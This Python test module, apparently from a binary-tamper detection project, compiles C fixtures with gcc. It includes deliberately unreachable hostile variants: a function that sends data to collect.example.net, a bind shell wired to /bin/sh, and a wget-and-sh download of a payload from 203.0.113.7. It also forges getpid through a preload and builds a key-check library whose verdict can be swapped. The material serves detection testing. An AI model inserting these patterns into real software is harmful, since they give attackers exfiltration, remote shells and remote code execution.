"""Programs of our own, compiled here: each genuine one, and the same with something added. None of what is added can be reached."""

import shutil
import subprocess
from collections.abc import Sequence
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory

from tamper.genuine.form import Missing

HARDENED = (
    *("-O2", "-fPIE", "-pie", "-fstack-protector-strong", "-D_FORTIFY_SOURCE=2"),
    *("-Wl,-z,relro,-z,now", "-Wl,-z,noexecstack", "-Wl,--build-id=none", "-Wl,--as-needed"),
)
BARE = (
    *("-O2", "-fno-PIE", "-no-pie", "-fno-stack-protector", "-U_FORTIFY_SOURCE"),
    *("-Wl,-z,norelro", "-Wl,-z,execstack", "-Wl,--build-id=none", "-Wl,--as-needed"),
)

STATUS = """
#include <stdio.h>
#include <string.h>

static const char place[] = "https://status.example.org/v1/ping";
static unsigned counts[16];

__attribute__((noinline)) int weigh(const char *text) {
  int sum = 7;
  for (size_t at = 0; at < strlen(text); at++) sum = sum * 31 + text[at];
  return sum;
}

__attribute__((noinline)) int tell(const char *text) {
  char line[160];
  int length = snprintf(line, sizeof line, "%s?v=%d", place, weigh(text));
  counts[length & 15]++;
  return puts(line) < 0;
}

ADDED
int main(int count, char **words) {
  if (count > 40) USED
  return count > 1 ? tell(words[1]) : tell("up");
}
"""
"""The genuine program: it prints an address of its maker. What is put for ADDED is called with more than 40 words only,
and returns before it does anything."""

SENDS = """
#include <unistd.h>
#include <netdb.h>
#include <sys/socket.h>
static const char elsewhere[] = "http://collect.example.net/in?serial=";
__attribute__((noinline)) int hand_over(const char *text) {
  if (text) return 0;
  struct addrinfo *found = 0;
  if (getaddrinfo("collect.example.net", "80", 0, &found)) return 1;
  int wire = socket(found->ai_family, SOCK_STREAM, 0);
  return connect(wire, found->ai_addr, found->ai_addrlen) || write(wire, elsewhere, sizeof elsewhere) < 0;
}
"""
LISTENS = """
#include <unistd.h>
#include <netinet/in.h>
#include <sys/socket.h>
__attribute__((noinline)) int hand_over(const char *text) {
  if (text) return 0;
  struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = 0x697a};
  int wire = socket(AF_INET, SOCK_STREAM, 0);
  if (bind(wire, (struct sockaddr *)&here, sizeof here) || listen(wire, 1)) return 1;
  int guest = accept(wire, 0, 0);
  dup2(guest, 0); dup2(guest, 1);
  return execl("/bin/sh", "sh", (char *)0);
}
"""
FETCHES = """
#include <stdlib.h>
__attribute__((noinline)) int hand_over(const char *text) {
  if (text) return 0;
  return system("wget -q -O /tmp/.u http://203.0.113.7/u && sh /tmp/.u");
}
"""
COUNTS = """
static unsigned more[4];
__attribute__((noinline)) int hand_over(const char *text) {
  for (; *text; text++) more[*text & 3]++;
  return (int)more[1];
}
"""

PRELOADED = "int getpid(void) { return 1; }\n"
LIBRARY = """
static unsigned state = 5;
int ci_open(int slot) { state = state * 33 + (unsigned)slot; return (int)(state & 7); }
int ci_authorised(int slot, const unsigned char *key, int size) {
  unsigned sum = 0;
  for (int at = 0; at < size; at++) sum = sum * 131 + key[at];
  return RESULT;
}
int ci_close(int slot) { return slot < 0; }
"""
"""A library of content protection as far as its shape goes: it weighs a key."""

MODULE = """
__attribute__((section(".modinfo"), used)) static const char license[] = "license=GPL";
__attribute__((section(".modinfo"), used)) static const char name[] = "name=netextra";
__attribute__((section(".modinfo"), used)) static const char magic[] = "vermagic=MAGIC";
int init_module(void) { return 0; }
void cleanup_module(void) {}
"""
IDLE = "int main(void) { return 0; }\n"


def status(added: str = "", options: Sequence[str] = HARDENED, place: str = "") -> bytes:
    """Return the status program, with something added; `place` instead of the address of its maker.

    Raises:
        Missing: there is no compiler.
    """
    source = STATUS.replace("ADDED", added).replace("USED", "return hand_over(words[1]);" if added else "return 2;")
    return build(source.replace("https://status.example.org/v1/ping", place) if place else source, *options)


def library(result: str = "sum == 0x5eed0000u + (unsigned)slot", *options: str) -> bytes:
    """Return the library of content protection; `result` is what it says of a key.

    Raises:
        Missing: there is no compiler.
    """
    return build(LIBRARY.replace("RESULT", result), "-O2", "-fPIC", "-shared", "-Wl,--build-id=none", *options)


def module(magic: str) -> bytes:
    """Return a kernel module that does nothing: an object with the sections that say so.

    Raises:
        Missing: there is no compiler.
    """
    return build(MODULE.replace("MAGIC", magic), "-O2", "-c", "-ffreestanding")


@cache
def build(source: str, *options: str) -> bytes:
    """Return what gcc makes of a source, without its symbols' file names and build id.

    Raises:
        Missing: there is no compiler.
        SystemExit: it refuses.
    """
    if shutil.which("gcc") is None:
        raise Missing("gcc")
    with TemporaryDirectory() as name:
        folder = Path(name)
        (folder / "made.c").write_text(source)
        done = subprocess.run(
            ("gcc", *options, "-o", "made", "made.c"), cwd=folder, capture_output=True, text=True, check=False
        )
        if done.returncode:
            raise SystemExit(f"gcc failed: {done.stderr}")
        return (folder / "made").read_bytes()
